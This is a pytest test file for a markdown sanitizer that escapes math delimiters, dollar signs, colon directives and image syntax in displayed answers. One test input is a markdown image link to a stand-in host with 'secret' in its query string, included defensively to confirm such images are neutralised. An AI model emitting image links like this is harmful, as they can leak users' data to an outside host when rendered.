import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ui.markdown import plain, presentable


@pytest.mark.parametrize(
    ("said", "drawn"),
    [
        (r"\(a^2\) and \[b\]", "$a^2$ and $$b$$"),
        ("it costs $5 or $6", r"it costs \$5 or \$6"),
        ("the area $a^2$ costs $5", r"the area $a^2$ costs \$5"),
        ("$$\nx = 1\n$$", "$$\nx = 1\n$$"),
        ("![x](http://evil/?q=secret)", r"\![x](http://evil/?q=secret)"),
        (":red[alarm] :material/home: a:b", r"\:red[alarm] \:material/home: a:b"),
        ("`$5 ![x](y) :red[z]`", "`$5 ![x](y) :red[z]`"),
        ("```\n$5 \\( ![x](y)\n```\n$6", "```\n$5 \\( ![x](y)\n```\n\\$6"),
        ("```python\nprint('$5')", "```python\nprint('$5')"),  # still being written
    ],
)
def test_presentable(said: str, drawn: str) -> None:
    assert presentable(said) == drawn


@settings(deadline=None)  # the machine may be busy
@given(st.text(alphabet="![]()`x\n ~", max_size=40))
def test_no_answer_ever_holds_an_image(said: str) -> None:
    tokens = MarkdownIt().parse(presentable(said))
    assert not any(child.type == "image" for token in tokens for child in token.children or [])


@settings(deadline=None)  # the machine may be busy
@given(st.text(alphabet="*_`[]()!<>#$:\\abc -1.+~", max_size=40))
def test_plain_text_is_drawn_as_it_is(text: str) -> None:
    pieces = MarkdownIt().parse("x" + plain(text))[1].children or []
    assert {piece.type for piece in pieces} <= {"text", "text_special"}
    assert "".join(piece.content for piece in pieces) == "x" + " ".join(text.split())
